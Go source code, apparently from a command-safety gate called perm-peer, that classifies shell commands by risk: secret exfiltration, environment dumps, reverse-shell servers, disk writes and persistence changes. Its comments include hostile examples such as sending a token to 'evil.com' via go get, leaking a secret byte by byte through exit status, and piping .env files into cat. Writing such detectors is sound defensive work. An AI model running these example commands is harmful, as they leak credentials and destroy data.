package gate

import (
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strings"

	"github.com/perm-peer/perm-peer/gate/internal/argv"
	"github.com/perm-peer/perm-peer/gate/internal/cmds"
	"github.com/perm-peer/perm-peer/protocol"
)

// blockChanges reports a call of a block tool that changes the disk
// (listing and querying do not), by the words its entry declares.
func blockChanges(b *cmds.BlockTool, args []word) bool {
	has := func(words string) bool {
		for _, w := range args {
			for _, x := range strings.Fields(words) {
				if w.val == x || strings.HasPrefix(x, "--") && strings.HasPrefix(w.val, x) {
					return true
				}
			}
		}
		return false
	}
	return has(b.Changes) || b.ChangeLetters != "" && hasShort(args, b.ChangeLetters) || b.Inspects != "" && !has(b.Inspects) ||
		b.Changes == "" && b.Inspects == "" && b.ChangeLetters == ""
}

func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) summary {
	c := plainCall{a: a, f: f, idx: idx, lb: lb, args: args, sc: sc, spec: cmds.Lookup(lb)}
	c.assigns()
	c.s.or(a.subcmdEffects(f, idx, lb, args))
	switch { // the first family with an arm for the command decides it
	case c.builtin(), c.hostState(), c.readers(), c.queries(), c.searches(), c.fileTool(), c.tool(), c.files(), c.drops(), c.builds():
	}
	if c.done {
		return c.s // jobs -x: the inner command's summary
	}
	c.prints()
	c.sends()
	c.exfil()
	return c.s
}

// sends reads what the command sends or copies: socat between local files
// is a copy; a network tool's words are read by network(); any other
// command's flag values are read for secrets.
func (c *plainCall) sends() {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	if reads, writes, ok := socatLocal(lb, args); ok {
		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
		for _, w := range reads {
			a.readWord(w, sc, idx, false)
		}
		for _, w := range writes {
			a.writeWord(w, sc, idx)
		}
	} else if (netReads(lb) || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !c.localSync() {
		c.s.or(a.network(f, idx, lb, args, sc))
	} else if !parsedOptions[lb] {
		a.flagValueSecrets(lb, args, sc, idx, nil)
	}
}

// localSync says the command is a sync between local paths (rsync
// without a remote operand: a copy, cmds/files.go), not the network's.
func (c *plainCall) localSync() bool {
	t := cmds.FileToolOf(c.lb)
	return t != nil && t.Does == cmds.Syncs && !remoteArgs(c.args)
}

// exfil is the floor for a secret the command sends: a tainted word or a
// secret's variable on the network, or a token in a URL a fetcher gets
// from another service's host.
func (c *plainCall) exfil() {
	a, f, idx, lb, args := c.a, c.f, c.idx, c.lb, c.args
	for _, w := range args {
		if w.taint && c.s.net || w.secretName != "" && c.s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
		}
		// git clone, pip install -i, npm i URL fetch the URL they are given:
		// a token in it goes to that host as surely as with curl
		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
			h := urlHost(w.val)
			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
			}
			if h != "" && secretOffService(w.secretName, []string{h}) {
				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
			}
		}
	}
}

// plainCall is one command plain() decides: its fact, words and scope,
// and the summary built so far. Its arms are grouped by family, in the
// order plain's one switch had them, so the first arm that matches wins.
type plainCall struct {
	a    *analyzer
	f    *rfact
	idx  int
	lb   string
	args []word
	sc   *scope
	s    summary
	done bool // s is the call's summary and nothing after the arms applies
	// spec is the program's table entry, nil when the table has none
	spec *argv.Command
}

// is says the program's table entry is of class cl.
func (c *plainCall) is(cl argv.Class) bool { return c.spec != nil && c.spec.Class == cl }

// safe makes the command known-safe.
func (c *plainCall) safe(why string) { c.f.safe = reason("gate.safe", why) }

// installs says an installer's call installs (cmds/installers.go).
func (c *plainCall) installs() bool {
	first := ""
	if len(c.args) > 0 {
		first = c.args[0].val
	}
	return cmds.InstallerOf(c.lb).Installs(first, len(c.args))
}

// hostState reads the commands that change what runs later or the
// system, or dump the environment: direnv allow, hook installers,
// sysctl NAME=VALUE, printenv.
// It reports whether one of its arms matched.
func (c *plainCall) hostState() bool {
	a, f, lb, args := c.a, c.f, c.lb, c.args
	switch {
	case c.is(argv.Installer) && c.installs():
		f.human = reason("human.persistence-write", cmds.InstallerOf(lb).Why)
	case c.is(argv.Environ):
		// printenv NAME… and envsubst '$NAME…' print those variables only,
		// like echo "$NAME": human-only for the whole environment or a name
		// that holds a secret
		ops := operands(args, nil)
		switch {
		case hasFlag(args, "-v", "--variables") && unknownFlag(f.argv) == "": // envsubst's, not an error of printenv's
			c.safe(lb + " -v lists the names a format holds")
		case len(ops) == 0 || slices.ContainsFunc(ops, func(i int) bool { return args[i].dyn || namesSecretVar(args[i].val, a.secrets) }):
			f.human = reason("human.env-dump", "prints the environment")
			c.s.taint = true
		default:
			c.safe(lb + " prints the named variables")
		}
	case lb == "sysctl" && slices.ContainsFunc(args, func(w word) bool { return strings.Contains(w.val, "=") }):
		// sysctl NAME=VALUE writes /proc/sys like -w does
		f.human = reason("human.system-write", "sysctl changes a kernel setting")
	default:
		return false
	}
	return true
}

// namesSecretVar reports an operand of printenv (NAME) or envsubst (a
// format, '$A ${B}') that names a variable holding a secret.
func namesSecretVar(op string, secrets map[string]bool) bool {
	if secretVarName(op) || secrets[op] {
		return true
	}
	for _, m := range shellVarRef().FindAllStringSubmatch(op, -1) {
		if n := m[1] + m[2]; secretVarName(n) || secrets[n] {
			return true
		}
	}
	return false
}

var shellVarRef = lazyRE(`\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))`)

// readers reads the programs that read or print: the tools with a
// language of their own (otherTool), the programs whose words are data,
// the table's readers, pagers, block tools.
// It reports whether one of its arms matched.
func (c *plainCall) readers() bool {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	s := &c.s
	switch {
	case otherTools[lb]:
		s.or(c.otherTool())
	case c.is(argv.Data):
		if lb == "date" {
			for _, w := range optionValues(args, 'f', "--file") {
				a.readWord(w, sc, idx, false) // error messages echo the file
			}
		}
		if out := placePrinted(c.spec.Output, args, sc.cwd); out != nil {
			s.out = out
		}
		if lb == "echo" || lb == "printf" {
			s.out = printedText(lb, args)
			for _, w := range args {
				if w.secretVar {
					f.human = reason("human.env-dump", lb+" prints a variable that holds a secret")
					s.taint = true
				}
			}
		}
		if (lb == "exit" || lb == "return") && slices.ContainsFunc(args, func(w word) bool { return w.secretVar }) {
			// exit $(( 36#${KEY:3:1} )): the status shows a byte of it
			f.human = reason("human.env-dump", lb+" returns a variable that holds a secret as its status")
		}
		if (lb == "test" || lb == "[" || lb == "expr") && secretCompare(args) {
			// [ "${TOKEN:0:1}" = s ] && echo y: a yes/no answer about the
			// value (see testSecret)
			f.human = reason("human.env-dump", lb+" compares a variable that holds a secret with a pattern")
		}
		switch {
		case lb == "date" && (hasFlag(args, "-s") || hasLongAbbrev(args, "--set")):
		case lb == "ps" && psShowsEnv(args):
			f.human = reason("human.env-dump", "ps with e prints every process's environment")
			s.taint = true
		case lb == "hostname" && len(operands(args, nil)) > 0:
		default:
			c.safe(lb + " is read-only")
		}
	case cmds.Reader(lb) != nil:
		if out := a.reader(f, idx, lb, args, sc); out != nil {
			s.out = out // cat with no operand passes its stdin on
		}
	case c.is(argv.Pager):
		// pagers and editors show or open their files: reads, never known-safe
		for _, i := range operands(args, nil) {
			if !strings.HasPrefix(args[i].val, "+") {
				a.readWord(args[i], sc, idx, false)
			}
		}
		if lb == "less" || lb == "more" {
			for _, w := range args {
				a.lessOptions(w.val, sc, idx)
			}
		}
	case c.is(argv.Disk) && blockChanges(cmds.BlockToolOf(lb), args):
		for _, w := range args {
			if r := a.resolveMaybe(w, w.val, sc, true); r.known && (diskDevice(r.abs) || diskDevice(r.real)) {
				f.floor = reason("floor.disk-write", lb+" rewrites a disk device")
			}
		}
	default:
		return false
	}
	return true
}

// searches reads the searches and the languages: grep, sed, awk, jq, fd.
// It reports whether one of its arms matched.
func (c *plainCall) searches() bool {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	s := &c.s
	switch {
	case lb == "grep" || lb == "egrep" || lb == "fgrep" || lb == "rg" || lb == "ag" || lb == "ack" || lb == "zgrep":
		a.grep(f, idx, lb, args, sc)
	case lb == "sed" || lb == "gsed":
		a.sed(f, idx, args, sc)
	case lb == "awk" || lb == "gawk" || lb == "mawk" || lb == "nawk":
		s.taint = a.awk(f, idx, args, sc) || s.taint
	case lb == "jq" || lb == "yq" || lb == "gojq":
		s.taint = a.jq(f, idx, lb, args, sc) || s.taint
	case lb == "fd" || lb == "fdfind":
		// fd [PATTERN] [PATH…] -x/-X CMD…: the command is the rest of the line (up to ';')
		x := slices.IndexFunc(args, func(w word) bool {
			return w.val == "-x" || w.val == "--exec" || w.val == "-X" || w.val == "--exec-batch"
		})
		opts := args
		if x >= 0 {
			f.ask = reason("ask.flag", "fd --exec runs a command")
			opts = args[:x]
		} else {
			c.safe("fd only lists")
		}
		ops := operands(opts, fdVal)
		var roots []word
		for n, i := range ops {
			if n > 0 {
				a.readWord(args[i], sc, idx, true)
				roots = append(roots, args[i])
			}
		}
		if x >= 0 {
			cmd := args[x+1:]
			if end := slices.IndexFunc(cmd, func(w word) bool { return w.val == ";" }); end >= 0 {
				cmd = cmd[:end]
			}
			// unfiltered: no pattern but a match-all one, no type, extension or exclusion
			if len(ops) == 0 || !args[ops[0]].dyn && (args[ops[0]].val == "." || args[ops[0]].val == "" || args[ops[0]].val == "^") &&
				!hasFlag(opts, "-e", "--extension", "-t", "--type", "-E", "--exclude", "-S", "--size", "-g", "--glob") {
				// only named roots: in the current directory fd's own ignore rules
				// (hidden, .gitignore) leave less than rm -rf . would
				a.execOverTree(f, idx, lb, cmd, roots, fdRepl(), sc)
			}
		}
	default:
		return false
	}
	return true
}

// fileTool reads the file tools (cmds/files.go) by what their entry says
// they do. It reports whether the program is one, and one it decided: a
// remote rsync is the network's.
func (c *plainCall) fileTool() bool {
	t := cmds.FileToolOf(c.lb)
	if t == nil {
		return false
	}
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	switch t.Does {
	case cmds.Deletes, cmds.DeletesTrees:
		how := rmPlain
		if hasShort(args, "f") || hasFlag(args, "--force", "--no-preserve-root") {
			how = rmForce
		}
		if hasShort(args, "rR") || hasFlag(args, "--recursive") || t.Does == cmds.DeletesTrees {
			how = rmRecursive
		}
		for _, i := range operands(args, nil) {
			a.deleteWord(args[i], sc, idx, how)
		}
	case cmds.Syncs:
		if remoteArgs(args) {
			return false
		}
		a.copyMove(f, idx, lb, t, args, sc)
	case cmds.Copies, cmds.Moves, cmds.Links:
		a.copyMove(f, idx, lb, t, args, sc)
	case cmds.ChangesMeta:
		a.metaWrite(f, idx, lb, t, args, sc)
	case cmds.Tees:
		for _, i := range operands(args, nil) {
			a.writeWord(args[i], sc, idx)
		}
		if len(operands(args, nil)) == 0 {
			c.safe("tee without files")
		}
	case cmds.Keyed:
		for _, w := range args {
			for _, k := range t.Keys {
				file, ok := strings.CutPrefix(w.val, k.Prefix)
				switch {
				case !ok:
				case k.Role == argv.Write:
					a.writeFact(a.resolveMaybe(w, file, sc, true), idx)
				default:
					a.readFact(a.resolveMaybe(w, file, sc, false), idx, false)
				}
			}
		}
	case cmds.Patches:
		// patch FILE [PATCH] writes FILE; -o FILE writes FILE, -r FILE
		// the rejects, and the files of the patch are under -d DIR
		ops := operands(args, t.ValueFlags())
		if len(ops) > 0 {
			a.writeWord(args[ops[0]], sc, idx)
		}
		c.flagFiles(t)
		patches := optionValues(args, 'i', "--input")
		if len(ops) > 1 {
			patches = append(patches, args[ops[1]])
		}
		if !a.patchInput(patches, sc, idx) {
			a.writeFact(pathRef{raw: "(files named in the patch)"}, idx)
		}
	case cmds.Outputs:
		c.flagFiles(t)
		if t.ReadsOperands {
			for _, i := range operands(args, t.ValueFlags()) {
				a.readWord(args[i], sc, idx, false)
			}
		}
	}
	return true
}

// flagFiles reads and writes the values of a file tool's flags whose
// value is a file (patch -i PATCH, shuf -o FILE), in every spelling
// optionValues reads.
func (c *plainCall) flagFiles(t *cmds.FileTool) {
	for _, ff := range t.FileFlags() {
		for _, w := range optionValues(c.args, ff.Letter, ff.Long) {
			if ff.Role == argv.Read {
				c.a.readWord(w, c.sc, c.idx, false)
			} else {
				c.a.writeWord(w, c.sc, c.idx)
			}
		}
	}
}

// files reads the formats, floors and services left to code: formatters
// and shell servers by class, crontab, systemctl, the package tools' and
// the formatters' arms, zipinfo, ss.
// It reports whether one of its arms matched.
func (c *plainCall) files() bool {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	switch {
	case c.is(argv.Formatter):
		f.floor = reason("floor.mkfs", lb+" formats a disk")
	case c.is(argv.ShellServer):
		f.floor = reason("floor.reverse-shell", lb+" exposes a shell to the network")
	case lb == "crontab":
		if hasFlag(args, "-l") && len(args) == 1 {
			c.safe("crontab -l only lists")
		} else {
			f.human = reason("human.persistence-write", "changes the crontab")
		}
	case (lb == "systemctl" || lb == "launchctl") && len(operands(args, nil)) > 0:
		switch args[operands(args, nil)[0]].val {
		case "enable", "link", "edit", "load", "bootstrap", "set-property", "preset", "add-wants", "add-requires", "revert":
			f.human = reason("human.persistence-write", "installs or changes a service")
		case "poweroff", "reboot", "halt", "kexec", "suspend", "hibernate", "hybrid-sleep", "suspend-then-hibernate", "rescue", "emergency", "soft-reboot":
			f.human = reason("human.teardown", lb+" stops or restarts the machine")
		case "status", "list-units", "list-unit-files", "is-active", "is-enabled", "show", "cat", "list", "print", "list-timers":
			if hasLongAbbrev(args, "--host", "--machine") || hasShort(args, "HM") {
				f.ask = reason("ask.flag", lb+" --host connects to another machine over ssh")
			} else {
				c.safe(lb + " only inspects")
			}
		}
	case lb == "zipinfo":
		// lists an archive's members, like unzip -l; later operands name members
		if ops := operands(args, nil); len(ops) > 0 {
			a.readWord(args[ops[0]], sc, idx, false)
		}
		c.safe("zipinfo only lists an archive")
	case lb == "ss":
		// ss -ltnp lists sockets; -K kills them, and -F, -D, -f, -A, -N
		// and filter expressions take values
		if !slices.ContainsFunc(args, func(w word) bool {
			return w.dyn || len(w.val) < 2 || w.val[0] != '-' || strings.Trim(w.val[1:], "ltuanpxw46eimsrHOo") != ""
		}) {
			c.safe("ss only lists sockets")
		}
	case lb == "gofmt":
		// -w rewrites the files; -l, -d, -s only print
		ops := operands(args, map[string]bool{"-r": true, "-cpuprofile": true})
		for _, w := range flagValues(args, "-cpuprofile") {
			a.writeWord(w, sc, idx)
		}
		for _, i := range ops {
			if hasShort(args, "w") {
				a.writeWord(args[i], sc, idx)
			} else {
				a.readWord(args[i], sc, idx, false)
			}
		}
		if !hasShort(args, "w") && len(flagValues(args, "-cpuprofile")) == 0 {
			c.safe("gofmt without -w only prints")
		}
	case lb == "eslint" || lb == "prettier":
		a.fixer(f, idx, lb, args, sc)
	default:
		return false
	}
	return true
}

// drops reads the database tools that tear down: dropdb, dropuser (the
// infrastructure and cloud CLIs are cmds.Tool entries, hooks_cloud.go).
// It reports whether it matched.
func (c *plainCall) drops() bool {
	if c.lb != "dropdb" && c.lb != "dropuser" {
		return false
	}
	c.f.human = reason("human.teardown", c.lb+" drops a database")
	return true
}

// builds reads the archivers.
// It reports whether one of its arms matched.
func (c *plainCall) builds() bool {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	switch {
	case lb == "tar" || lb == "unzip" || lb == "gunzip" || lb == "zip" || lb == "gzip" || lb == "7z" || lb == "7za" || lb == "7zr" || lb == "bsdtar":
		a.archive(f, idx, lb, args, sc)
	default:
		return false
	}
	return true
}

// printsVersion says lb's --version alone only prints its version
// (cmds.Tool's Version).
func printsVersion(lb string) bool {
	t := cmds.ToolOf(lb)
	return t != nil && t.Version
}

// prints says what the command prints when it is known-safe: its version,
// or names of project files (and whether they may be secrets' names)
// for what reads its output.
func (c *plainCall) prints() {
	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
	s := &c.s
	if f.safe == nil && f.ask == nil && f.human == nil && f.floor == nil && printsVersion(lb) && len(args) == 1 &&
		(args[0].val == "--version" || args[0].val == "-V" || args[0].val == "version" || args[0].val == "-version") {
		c.safe(lb + " prints its version")
	}
	switch {
	case (lb == "rg" || lb == "grep" || lb == "fd" || lb == "fdfind") && f.safe != nil &&
		(lb == "fd" || lb == "fdfind" || hasShort(args, "lLc") || hasLongAbbrev(args, "--files", "--files-with-matches", "--files-without-match", "--count")):
		// file names found under the project (-L: those without a match;
		// -c: NAME:COUNT, cut -d: -f1 keeps the name)
		s.projList = a.readsInProject(idx)
		// grep -r reads hidden files too: its names may be secrets
		s.secretList = lb == "grep" && (hasShort(args, "rR") || hasFlag(args, "--recursive")) && !hasLongAbbrev(args, "--include") ||
			// rg and fd skip hidden files unless told: --hidden, -u, fd -H
			lb != "grep" && (hasFlag(args, "--hidden", "--unrestricted") || hasShort(args, "u") ||
				lb == "rg" && hasShort(args, ".") || lb != "rg" && hasShort(args, "H"))
		// the names of a search, not aimed at secrets by a glob (fd's
		// pattern may be)
		s.broadList = s.secretList && lb != "fd" && lb != "fdfind" && !hasFlag(args, "-g") && !hasLongAbbrev(args, "--glob", "--iglob")
	case lb == "ls" && f.safe != nil && (hasShort(args, "aA") || hasLongAbbrev(args, "--all", "--almost-all")):
		// ls -A | xargs cat: the names include .env, like find's
		s.projList = a.readsInProject(idx)
		s.secretList, s.broadList = true, true
	case (lb == "cut" || lb == "tr") && f.safe != nil && a.stdin != nil && a.stdin.secretList:
		// grep -rc x . | cut -d: -f1 | xargs cat: cut keeps the names
		s.secretList = true
	case (lb == "realpath" || lb == "readlink" && hasShort(args, "fem") || lb == "ls" && hasShort(args, "d")) && f.safe != nil &&
		len(operands(args, nil)) == 1 && !args[operands(args, nil)[0]].dyn && !hasGlob(args[operands(args, nil)[0]].val):
		// f=$(realpath ~/.bashrc); echo … >> "$f": the output is the path
		if r := a.pathWord(args[operands(args, nil)[0]], sc, false); r.known {
			s.out = &stdinSrc{text: r.abs + "\n", known: true}
		}
	case c.spec != nil && c.spec.Filters && f.safe != nil && len(operands(args, nil)) <= 1 && a.stdin != nil && a.stdin.projList:
		// head, sort, grep PATTERN … keep a subset of the lines they read
		s.projList = lb != "grep" && lb != "rg" || len(operands(args, nil)) == 1 && !hasShort(args, "o")
		if lb != "grep" && lb != "rg" && len(operands(args, nil)) > 0 && lb != "head" && lb != "tail" {
			s.projList = false
		}
		s.cleanList = s.projList && a.stdin.cleanList
		// find . | grep env | xargs cat: the kept names may still be
		// secrets (a grep may aim at them: no longer broad)
		s.secretList = s.projList && a.stdin.secretList && (lb != "grep" && lb != "rg" || filterMayKeepSecret(lb, args))
		s.broadList = s.secretList && a.stdin.broadList && lb != "grep" && lb != "rg"
	}
}

// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
// or git's user@host:path), or "".
func urlHost(v string) string {
	if i := strings.Index(v, "://"); i >= 0 {
		v = v[i+3:]
		v, _, _ = strings.Cut(v, "/")
		if j := strings.LastIndexByte(v, '@'); j >= 0 {
			v = v[j+1:]
		}
		v, _, _ = strings.Cut(v, ":")
		return v
	}
	if at := strings.IndexByte(v, '@'); at > 0 {
		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
			return h
		}
	}
	return ""
}

// hostsOf lists the hosts command idx connects to.
func (a *analyzer) hostsOf(idx int) []string {
	var hosts []string
	for _, g := range a.facts[max(idx, 0):] {
		if g.kind == protocol.FactNetwork && g.parent == idx {
			hosts = append(hosts, g.host)
		}
	}
	return hosts
}

// placePrinted is what pwd and dirname print when the gate knows it: the
// working directory, and the directory part of each literal operand
// (rm -rf "$(dirname "$PWD")" deletes the working directory's parent);
// nil for anything else.
func placePrinted(o argv.Output, args []word, cwd string) *stdinSrc {
	switch {
	case o == argv.WorkDir && cwd != "" && !slices.ContainsFunc(args, func(w word) bool { return w.dyn }):
		return &stdinSrc{text: cwd + "\n", known: true}
	case o != argv.Dirs || len(args) == 0:
		return nil
	}
	var b strings.Builder
	for _, w := range args {
		if w.dyn || strings.HasPrefix(w.val, "-") {
			return nil // dirname -z: NUL-separated
		}
		b.WriteString(path.Dir(w.val) + "\n")
	}
	return &stdinSrc{text: b.String(), known: true}
}

// printedText is what echo or printf prints, when the gate can tell.
func printedText(lb string, args []word) *stdinSrc {
	vals := make([]string, len(args))
	dyn := false
	for i, w := range args {
		vals[i] = w.val
		if w.dyn {
			vals[i], dyn = "$_", true
		}
	}
	if dyn {
		return &stdinSrc{text: strings.Join(vals, " ") + "\n"}
	}
	if lb == "printf" {
		// the table finds the format: after --, never after -v VAR, whose
		// output goes to VAR
		inv := cmds.Lookup(lb).Parse(vals, nil)
		if len(inv.Uses)+len(inv.Unknown) > 0 || len(inv.Operands) == 0 {
			return &stdinSrc{text: "$_"}
		}
		vals = vals[inv.Operands[0]:]
		t, known := printfText(vals[0], vals[1:])
		return &stdinSrc{text: t, known: known}
	}
	// echo's -e and -n: escapes the gate does not decode
	return &stdinSrc{text: strings.Join(vals, " ") + "\n", known: len(vals) == 0 || !strings.HasPrefix(vals[0], "-")}
}

// printfText is what printf FORMAT ARGS… prints when FORMAT has no
// conversion but %s and %% and no escape but \n \t \0 \\: the format is
// reused while arguments remain, as printf does. \0 is read as a newline:
// it separates names (printf '%s\0' .env | xargs -0 cat) as a newline does.
func printfText(format string, args []string) (string, bool) {
	var b strings.Builder
	for i := 0; ; {
		consumed := false
		for j := 0; j < len(format); j++ {
			c := format[j]
			if (c != '%' && c != '\\') || j+1 == len(format) {
				if c == '%' || c == '\\' {
					return "", false
				}
				b.WriteByte(c)
				continue
			}
			j++
			switch esc := string(format[j-1 : j+1]); esc {
			case "%s":
				if i < len(args) {
					b.WriteString(args[i])
					i++
				}
				consumed = true
			case "%%":
				b.WriteByte('%')
			case "\\n", "\\0":
				b.WriteByte('\n')
			case "\\t":
				b.WriteByte('\t')
			case "\\\\":
				b.WriteByte('\\')
			default:
				return "", false
			}
		}
		if !consumed || i >= len(args) {
			return b.String(), true
		}
	}
}

// readsInProject reports that every read fact of command idx is a known
// path inside the project.
func (a *analyzer) readsInProject(idx int) bool {
	for _, g := range a.facts[idx+1:] {
		if g.kind == protocol.FactRead && g.parent == idx && !a.inProject(g.path) {
			return false
		}
	}
	return true
}

// psShowsEnv reports ps options that print every process's environment:
// BSD-style ones with e (ps eww), macOS -E (ps -axE).
func psShowsEnv(args []word) bool {
	for _, w := range args {
		if !strings.HasPrefix(w.val, "-") && strings.Contains(w.val, "e") || hasShort([]word{w}, "E") {
			return true
		}
	}
	return false
}

func hasWord(args []word, w string) bool {
	for _, x := range args {
		if x.val == w {
			return true
		}
	}
	return false
}

// dirSecret reports a directory on disk that holds a sensitive file (a
// bounded walk, without .git and node_modules): packing it into an archive
// or copying it to another host carries the secret along. With follow
// (the tool copies what links point to) a link to a secret counts too.
// capped: the directory is too large to walk it all (a z/.env past 4000
// files in a/ was never seen), so it is not known to be free of secrets.
//
// excl are name patterns the command leaves out (rsync/tar --exclude .env):
// a file or directory whose name matches one is not carried.
func (a *analyzer) dirSecret(r pathRef, follow bool, excl ...string) (found, capped bool) {
	capped = dirWalk{follow: follow, hidden: true, excl: excl}.secrets(a, r, func(string) bool {
		found = true
		return false
	})
	return found, capped && !found
}

// dirWalk is how a tool goes through a directory tree.
type dirWalk struct {
	follow bool     // it goes where links point (zip -r, scp -r, grep -R, rg -L)
	hidden bool     // it reads names that start with a dot (rg and ag do not by default)
	excl   []string // name patterns it leaves out
}

// maxWalk bounds the entries a walk of a directory visits.
const maxWalk = 4000

// secrets walks the directory r names, bounded, and calls found with
// the real path of each sensitive file the tool would reach (a link's
// target; a link to a sensitive directory such as ~/.ssh is passed as it
// is), until found returns false. capped: the walk stopped at maxWalk
// entries before it was done.
func (how dirWalk) secrets(a *analyzer, r pathRef, found func(real string) bool) (capped bool) {
	if !r.known || r.glob {
		return false
	}
	root := r.real
	if root == "" {
		root = r.abs
	}
	if st, err := os.Stat(root); err != nil || !st.IsDir() {
		return false
	}
	w := walker{how: how, a: a, found: found}
	w.walk(root, 0)
	return w.capped
}

// walker is one walk of a dirWalk: the entries it visited (n), whether it
// stopped (found returned false, or the walk reached maxWalk: capped).
type walker struct {
	how          dirWalk
	a            *analyzer
	found        func(real string) bool
	n            int
	stop, capped bool
}

// walk visits the tree at root the way filepath.WalkDir does (root first,
// then each directory's entries sorted by name, depth first), reading the
// listings through the peer's DirCache.
func (w *walker) walk(root string, depth int) {
	fi, err := os.Lstat(root)
	if err != nil {
		return
	}
	e := dirEnt{name: filepath.Base(root), typ: fi.Mode().Type(), links: linkCount(fi)}
	w.visit(root, root, e, depth)
}

// visit is one entry p of the walk from root.
func (w *walker) visit(root, p string, e dirEnt, depth int) {
	if w.stop {
		return
	}
	if w.n++; w.n > maxWalk {
		w.capped, w.stop = true, true
		return
	}
	top := p == root
	if !top && !w.how.hidden && strings.HasPrefix(e.name, ".") {
		return
	}
	if e.isDir() && !top && (e.name == ".git" || e.name == "node_modules") {
		// of .git only its config may hold a secret: a remote URL's token
		if cfg := filepath.Join(p, "config"); e.name == ".git" && gitConfigHasCreds(cfg) && !w.found(cfg) {
			w.stop = true
		}
		return
	}
	if !top && excludedName(e.name, e.isDir(), w.how.excl) {
		return
	}
	real := p
	if w.how.follow && e.typ&os.ModeSymlink != 0 {
		// zip -r, scp -r, rsync -L and tar -h copy what a link points
		// to: pub/key -> ../.env, pub/ssh -> ~/.ssh
		target, err := filepath.EvalSymlinks(p)
		if err != nil {
			return
		}
		if st, err := os.Stat(target); err == nil && st.IsDir() && depth < 3 &&
			!w.a.sensitive(pathRef{raw: p, abs: p, real: target, known: true}) {
			w.walk(target, depth+1)
			return
		}
		real = target
	}
	if fi, ok := linkedInfo(p, e); ok && e.typ.IsRegular() {
		real = w.a.hardLinkedTwin(p, fi) // notes.txt made by ln .env notes.txt is .env
	}
	if !e.isDir() {
		if w.a.sensitive(pathRef{raw: p, abs: p, real: real, known: true}) && !w.found(real) {
			w.stop = true
		}
		return
	}
	ents, err := w.a.env.Dirs.readDir(p)
	if err != nil {
		return
	}
	for _, c := range ents {
		w.visit(root, joinEnt(p, c), c, depth)
	}
}

// excludedName reports a name matched by one of the exclude patterns. Only
// name patterns count (".env", ".env*", "secrets/" for a directory): a
// pattern with a "/" inside is anchored or matched against a path the
// walk does not rebuild, so it is not trusted to leave anything out.
func excludedName(name string, isDir bool, pats []string) bool {
	for _, p := range pats {
		dirOnly := strings.HasSuffix(p, "/")
		p = strings.TrimSuffix(p, "/")
		if p == "" || strings.Contains(p, "/") || dirOnly && !isDir {
			continue
		}
		if ok, err := path.Match(p, name); err == nil && ok {
			return true
		}
	}
	return false
}

// resolveMaybe resolves a file name taken from part of a word.
func (a *analyzer) resolveMaybe(w word, p string, sc *scope, forWrite bool) pathRef {
	if w.dyn {
		a.envSuffix(w.val, p)
		return pathRef{raw: p}
	}
	return a.resolvePath(p, sc.cwd, forWrite)
}

// readWord records a read of every brace alternative of a word.
func (a *analyzer) readWord(w word, sc *scope, parent int, listOnly bool) {
	if w.proc {
		return // reads the output of a command analysed on its own
	}
	if w.dyn && w.secretPaths && !listOnly {
		a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: w.val}, parent: parent,
			human: reason("human.sensitive-read", "reads files a listing did not keep away from secrets")})
	}
	if w.dyn && w.projPaths && (listOnly || w.cleanPaths && !w.secretPaths) {
		// wc -l $(git ls-files), … | xargs wc -l: names of project files,
		// and a count or listing shows nothing of their contents; cat
		// $(git ls-files '*.go'): project files whose names are no secret
		a.add(&rfact{kind: protocol.FactRead, path: pathRef{raw: w.val}, parent: parent, listOnly: listOnly,
			safe: reason("gate.read", "reads project files a listing names")})
		return
	}
	if w.dyn {
		// the values the call gave the variables: exact ones replace the
		// unknown read, others only add stricter facts
		for _, alt := range w.alts {
			a.readWord(word{val: alt}, sc, parent, listOnly)
		}
		if !w.exact || len(w.alts) == 0 {
			a.readFact(pathRef{raw: w.val}, parent, listOnly)
		}
		return
	}
	for _, alt := range braceExpand(w.val) {
		r := a.resolvePath(alt, sc.cwd, false)
		if r.glob && r.known && !listOnly && a.readGlobMatches(r, parent) {
			continue
		}
		a.readFact(r, parent, listOnly)
		if r.glob && r.known && !listOnly {
			a.globLinks(r.abs, parent)
		}
	}
}

// readGlobMatches judges a read of a glob by the files it matches on disk
// (cat *.json), as if they had been named: the pattern's own fact says
// where it reads, each match whether it is a secret or a link out of the
// project. False when the glob cannot be expanded.
func (a *analyzer) readGlobMatches(r pathRef, parent int) bool {
	ms, ok := globMatches(r.abs)
	if !ok {
		return false
	}
	// listOnly skips the guess from the pattern's name; it is a content read
	a.facts[a.readFact(r, parent, true)].listOnly = false
	for _, m := range ms {
		// only what is not a plain read in the project is worth a fact
		if i := a.readFact(a.resolvePath(m, "", false), parent, false); a.facts[i].safe != nil {
			a.facts = a.facts[:i]
		}
	}
	return true
}

// globLinks reads the symlinks a glob matches as the files they point to:
// cat src/*.txt must not read a link to .env or to a file outside the
// project without saying so.
func (a *analyzer) globLinks(pattern string, parent int) {
	dir, base := filepath.Dir(pattern), filepath.Base(pattern)
	if hasGlob(dir) {
		return // only the last element is matched here
	}
	ents, err := os.ReadDir(dir)
	if err != nil {
		return
	}
	n := 0
	for _, e := range ents {
		if e.Type()&os.ModeSymlink == 0 || strings.HasPrefix(e.Name(), ".") && !strings.HasPrefix(base, ".") {
			continue
		}
